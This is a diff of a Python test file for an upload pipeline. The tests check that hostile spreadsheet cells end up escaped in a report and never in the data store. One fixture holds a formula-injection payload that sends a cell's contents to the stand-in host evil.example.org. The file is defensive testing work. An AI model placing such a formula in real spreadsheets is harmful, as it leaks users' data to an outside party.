@@ -1,11 +1,14 @@
-"""Files that mean harm: what they say goes nowhere but into a cell of a report."""
+"""Hostile files: their content reaches only a cell of a report."""
 
 import csv
 import io
 import zipfile
 
+import pandas as pd
 import pytest
 from installations import ANN, HEADER, HIGH
+
+from cvms_pipeline.domain.text import formulas
 
 MARKS = {
     "formula": '=HYPERLINK("http://evil.example.org?x="&A1,"x")',
@@ -59,7 +62,7 @@ ODD_BYTES = [
 
 
 @pytest.mark.parametrize(("data", "code"), REFUSED)
-def test_what_cannot_be_read_is_refused_and_told(site, data, code):
+def test_an_unreadable_file_is_refused_and_the_provider_is_notified(site, data, code):
     upload_id = site.bring(data)
 
     ended = site.upload(upload_id)
@@ -70,7 +73,7 @@ def test_what_cannot_be_read_is_refused_and_told(site, data, code):
 
 
 @pytest.mark.parametrize("odd", ODD_BYTES)
-def test_bytes_that_are_no_text_load_nobody(site, odd):
+def test_bytes_that_are_not_text_load_no_recipient(site, odd):
     data = f"{HEADER}\n".encode() + odd + b",Lee,1/2/1990,a@b.example.org\n"
 
     upload_id = site.bring(data)
@@ -80,7 +83,7 @@ def test_bytes_that_are_no_text_load_nobody(site, odd):
 
 
 @pytest.mark.parametrize("mark", MARKS)
-def test_whatever_stands_in_every_cell_ends_in_the_report_alone(site, mark):
+def test_hostile_cells_appear_only_in_the_report(site, mark):
     cells = [MARKS[mark]] * 4
     before = tables(site)
 
@@ -90,14 +93,13 @@ def test_whatever_stands_in_every_cell_ends_in_the_report_alone(site, mark):
     (row,) = reported(site)[1:]
     assert (ended.loaded, ended.rejected) == (1, 1)
     assert tables(site) == before
-    assert [cell.removeprefix("'") for cell in row[:4]] == [
-        cell.removeprefix("'") for cell in cells
-    ]
+    read = formulas.unescape(pd.Series(cells, dtype=str)).tolist()
+    assert formulas.unescape(pd.Series(row[:4], dtype=str)).tolist() == read
     assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
 
 
 @pytest.mark.parametrize("mark", MARKS)
-def test_whatever_stands_in_every_header_s_cell_is_text_in_the_messages(site, mark):
+def test_hostile_header_cells_appear_as_plain_text_in_the_messages(site, mark):
     header = f"{HEADER},{quoted(MARKS[mark])}"
 
     site.bring(f"{header}\n{ANN},x\n".encode())
@@ -114,7 +116,7 @@ def test_whatever_stands_in_every_header_s_cell_is_text_in_the_messages(site, ma
 
 
 @pytest.mark.parametrize("mark", MARKS)
-def test_a_report_dropped_back_holds_what_was_written(site, mark):
+def test_a_report_that_is_dropped_again_has_the_original_values(site, mark):
     cells = [MARKS[mark]] * 4
     site.bring([quoted(*cells)])
     data = report_of(site)
@@ -129,7 +131,7 @@ def test_a_report_dropped_back_holds_what_was_written(site, mark):
     assert both.iloc[0].astype(str).tolist() == both.iloc[1].astype(str).tolist()
 
 
-def test_rows_of_absurd_size_go_to_the_store_and_back(site):
+def test_very_large_rows_are_stored_and_read_back(site):
     row = quoted("x" * 300_000, "ł" * 300_000, "1/" * 200_000, "a." * 200_000 + "@b.c")
 
     upload_id = site.bring([row] * 5, lane=HIGH)
